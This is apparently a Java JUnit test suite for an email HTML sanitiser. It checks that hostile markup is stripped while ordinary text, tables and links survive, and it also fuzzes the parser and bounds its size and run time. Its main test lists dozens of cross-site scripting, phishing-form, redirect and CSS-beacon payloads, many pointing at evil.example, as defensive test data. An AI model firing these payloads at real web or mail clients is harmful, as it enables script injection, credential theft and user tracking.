package io.carteggio.server.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.carteggio.mail.mime.HtmlText;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;
import java.util.regex.MatchResult;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// A gallery of hostile HTML: nothing of it may come through alive.
class MailHtmlTest {
    private static String body(String hostile) {
        String html = MailHtml.of(
                        hostile, cid -> cid.equals("logo@x") ? Optional.of("/pictures/1/pass") : Optional.empty())
                .html();
        int start = html.indexOf("<body>") + "<body>".length();
        return html.substring(start, html.lastIndexOf("</body>"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)//",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(1)>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href=https://evil.example/>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<link rel=dns-prefetch href=//evil.example>",
                "<form action=https://evil.example><input name=password><button>Log in</button></form>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=data:text/html,<script>alert(1)</script>></object>",
                "<embed src=https://evil.example/x.swf>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href='java\tscript:alert(1)'>x</a>",
                "<a href=' &#14; javascript:alert(1)'>x</a>",
                "<a href=vbscript:x>x</a>",
                "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
                "<a href=file:///etc/passwd>x</a>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html,<script>'>",
                "<img srcset='https://evil.example/a.png 1x'>",
                "<img src='cid:other'>",
                "<p style='background:url(https://evil.example/x.png)'>x</p>",
                "<p style='background-image:u\\72l(https://evil.example/x.png)'>x</p>",
                "<p style='behavior:url(#default#time2)'>x</p>",
                "<p style='width:expression(alert(1))'>x</p>",
                "<p style='position:fixed;top:0;left:0'>x</p>",
                "<p style='-moz-binding:url(https://evil.example)'>x</p>",
                "<style>@import 'https://evil.example/x.css'; p{background:url(https://evil.example/y)}</style><p>x</p>",
                "<table background=https://evil.example/x.png><tr><td background=//evil.example/y>x</td></tr></table>",
                "<video src=https://evil.example/v.mp4 poster=https://evil.example/p.png autoplay></video>",
                "<audio src=https://evil.example/a.mp3></audio>",
                "<input type=image src=https://evil.example/x.png>",
                "<template><script>alert(1)</script></template>",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<title></title><img src=x onerror=alert(1)>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<plaintext><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp>",
                "<body onload=alert(1)>x",
                "<div id=main class=top name=token>x</div>",
                "<p><a href=https://ok.example/ target=_self ping=https://evil.example/>x"
            })
    void nothingHostileComesThrough(String hostile) {
        String html = body(hostile).toLowerCase(Locale.ROOT);
        // whether the text still has harmless words of it does not matter; what a browser would act on does
        String acts = html.replaceAll("&lt;", "(").replaceAll("&#\\d+;", "_");
        assertThat(acts)
                .doesNotContain("<script", "<svg", "<math", "<style", "<meta", "<base", "<link", "<form", "<input")
                .doesNotContain("<button", "<iframe", "<object", "<embed", "<video", "<audio", "<template", "<textarea")
                .doesNotContain("javascript:", "vbscript:", "data:text", "data:image/svg", "file:")
                .doesNotContainPattern("<[^>]*\\son[a-z]+\\s*=")
                .doesNotContainPattern("<[^>]*url\\s*\\(")
                .doesNotContainPattern("<[^>]*(expression|behavior|-moz-binding|position)")
                .doesNotContainPattern("<[^>]*\\s(id|class|name|srcset|ping|background|action)=")
                .doesNotContainPattern("<[^>]*evil\\.example")
                .doesNotContain("target=\"_self\"")
                .doesNotContainPattern("<!--");
    }

    /// Where the sanitiser's lexer and a browser part, text could hide; a `*` marks what must be seen, `-` what not.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg><script href=x />*one</svg><p>*two",
                "<svg><script/>*one<script>-x</script></svg>*two",
                "<svg><style/>*one</svg>*two",
                "<svg><title/>*one</svg>*two",
                "<svg><title>*one</svg><p>*two</p>",
                "<SVG><SCRIPT\n/>*one</SVG>*two",
                "<math><mi><style/>*one</math>*two",
                "<svg><style>-x</style><text>*one</text></svg>*two",
                "<svg><style>*one</svg>*two<style>-x</style>*three",
                "<svg><g><svg/></g><script/>*one</svg>*two",
                "<svg><text><![CDATA[*one < *two]]></text></svg>*three",
                "<svg><text><![CDATA[*one</text></svg>*two",
                "<svg><foreignObject><p>*one</p><iframe/>*two</foreignObject></svg>*three",
                "<svg>*one",
                "<!-->*one--> *two",
                "<!--->*one--> *two",
                "<!-- -x --!>*one<!-- -y -->*two",
                "<!-- -x -- > -y -->*one",
                "*one<!-- *two <p>*three",
                "<script>*one <p>*two",
                "<style>p { } *one <p>*two",
                "<style>-x</style>*one<style>*two <p>*three",
                "<script>-x</scripty>-y</script>*one",
                "<title>*one <p>*two",
                "<title>-x</title>*one",
                "<iframe>*one <p>*two",
                "<textarea>*one <p>*two",
                "<xmp>*one <b>*two</b></xmp>*three",
                "<plaintext>*one <b>*two",
                "<script src=x />*one",
                "<noscript><p>*one</p></noscript>*two",
                "<noscript>*one",
                "<object data=x><p>*one</p></object>*two",
                "<video src=x>*one</video><button>*two</button><select><option>*three</select>",
                "<template><p>*one</p></template>*two",
                "<a title=\"*one <p>*two</p> *three",
                "<p class='*one <p>*two</p><i class=\"*three</i>*four",
                "<a title=\"-x>-y\">*one</a>",
                "<p '>*one<p x=a\"b>*two",
                "<p title='-x' '>*one<b x=`>*two",
                "a < b *one",
                "*one <b *two",
                "*one <!doctype *two",
                "*one <? *two",
                "<![if !mso]>*one<![endif]><!--[if mso]>-x<![endif]-->*two",
            })
    void wordsDoNotVanish(String letter) {
        String shown = HtmlText.of(body(letter.replaceAll("[*]|-(?=[xy])", " ")), 1_000);
        List<String> seen = List.of(shown.split("[^a-z]+", -1));
        Matcher words = Pattern.compile("([*]|-(?=[xy]))([a-z]+)").matcher(letter);
        while (words.find()) {
            assertThat(seen.contains(words.group(2)))
                    .as("%s in %s of %s", words.group(2), shown, letter)
                    .isEqualTo(words.group(1).equals("*"));
        }
    }

    /// Whatever a search finds in a letter's HTML its page shows, however broken it is.
    @Test
    void whatIsFoundIsShown() {
        List<String> pieces = List.of(
                "<svg>",
                "</svg>",
                "<math>",
                "<script>",
                "<script/>",
                "</script>",
                "<style>",
                "</style>",
                "<!--",
                "-->",
                "<!-->",
                "--!>",
                "<![CDATA[",
                "]]>",
                "<template>",
                "</template>",
                "<style_x>",
                "<p>",
                "</p>",
                "<p title=\"",
                "\">",
                "<i class='",
                "'>",
                "<b x=`",
                "`>",
                "<b \"x' y=z\">",
                "<noscript>",
                "</noscript>",
                "<table><tr><td>",
                "</table>",
                "<object>",
                "</object>",
                "<br/>",
                "< ");
        long seed = System.nanoTime();
        Random random = new Random(seed);
        for (int letter = 0; letter < 20_000; letter++) {
            StringBuilder html = new StringBuilder();
            int length = 1 + random.nextInt(12);
            for (int i = 0; i < length; i++) {
                html.append(pieces.get(random.nextInt(pieces.size())))
                        .append(" word")
                        .append((char) ('a' + i))
                        .append(' ');
            }
            List<String> shown = words(body(html.toString()));
            assertThat(shown).as("seed %d: %s", seed, html).containsAll(words(html.toString()));
        }
    }

    private static List<String> words(String html) {
        return Pattern.compile("word[a-z]")
                .matcher(HtmlText.of(html, 10_000))
                .results()
                .map(MatchResult::group)
                .toList();
    }

    @Test
    void goodHtmlStaysGood() {
        String html = body("<h1 style='color:#24425f;margin:4px'>Offers</h1><table width=600 bgcolor=#eeeeff><tr>"
                + "<td align=center colspan=2>Lamp <b>49</b></td></tr></table><ul><li>x</ul>"
                + "<a href='https://shop.example/?a=1&amp;b=2'>see</a> <a href=mailto:a@b.example>write</a>");
        assertThat(html)
                .contains("color:#24425f")
                .contains("<table width=\"600\" bgcolor=\"#eeeeff\">")
                .contains("align=\"center\" colspan=\"2\"")
                .contains("<b>49</b>")
                .contains("target=\"_blank\"")
                .contains("noopener", "noreferrer")
                .contains("mailto:a&#64;b.example");
    }

    @Test
    void picturesOfTheLetterAreShownAndRemoteOnesCounted() {
        MailHtml html = MailHtml.of(
                "<img src='cid:logo@x' width=80><img src='CID:logo@x'><img src='https://a.example/1.png' width=600 alt=Chairs>"
                        + "<img src=//a.example/2.png><p style=\"background:url('http://a.example/3.png')\">x</p>"
                        + "<table background='http://a.example/4.png'><tr><td>y</td></tr></table>"
                        + "<img src='data:image/png;base64,iVBORw0KGgo='>",
                cid -> cid.equals("logo@x") ? Optional.of("/pictures/1/pass") : Optional.empty());
        assertThat(html.blockedPictures()).isEqualTo(4);
        assertThat(html.html())
                .contains("src=\"/pictures/1/pass\"")
                .contains("data:image/png;base64,iVBORw0KGgo")
                .contains("alt=\"Chairs\"")
                .doesNotContain("a.example");
    }

    @Test
    void unclosedElementsDoNotSwallowTheDocumentsEnd() {
        String html = MailHtml.of("<table><tr><td><div><b>x<a href='https://x.example/", cid -> Optional.empty())
                .html();
        assertThat(html).endsWith("</body></html>");
        assertThat(html.split("<td>", -1).length).isEqualTo(html.split("</td>", -1).length);
    }

    @Test
    void tenMegabytesAndDeepNestingAreBounded() {
        StringBuilder large = new StringBuilder("<p>start</p>");
        while (large.length() < 10_000_000) {
            large.append("<div style='color:red'><img src=https://e.example/x.png>");
        }
        long before = System.nanoTime();
        MailHtml html = MailHtml.of(large.toString(), cid -> Optional.empty());
        assertThat(html.cut()).isTrue();
        assertThat(html.html().length()).isLessThan(3 * MailHtml.LIMIT_CHARS);
        assertThat(html.html()).contains("<p>start</p>");
        assertThat((System.nanoTime() - before) / 1_000_000_000L).isLessThan(20);
    }

    @Test
    void whatIsNeverClosedIsLookedForOnce() {
        for (String piece : List.of(
                "<svg><script>",
                "<a title=\"x>",
                "<a title=\"",
                "<!--",
                "<style>",
                "<svg><![CDATA[",
                "<",
                "</",
                "<!",
                "<title/>")) {
            long before = System.nanoTime();
            MailHtml.of(piece.repeat(MailHtml.LIMIT_CHARS / piece.length()), cid -> Optional.empty());
            assertThat((System.nanoTime() - before) / 1_000_000_000L).as(piece).isLessThan(10);
        }
    }

    @Test
    void theFrameGetsTheRoomItWants() {
        String[][] table = {
            {"<p>Thanks!</p>", "short"},
            {"<p>" + "word ".repeat(200) + "</p>", "medium"},
            {"<p>x</p><img src='cid:logo@x'><img src='cid:logo@x'><img src='cid:logo@x'>", "medium"},
            {"<tr><td>x</td></tr>".repeat(3) + "<table>" + "<tr><td>x</td></tr>".repeat(40) + "</table>", "long"},
        };
        for (String[] row : table) {
            assertThat(MailHtml.of(row[0], cid -> Optional.of("/x")).room())
                    .as(row[0])
                    .isEqualTo(row[1]);
        }
    }
}
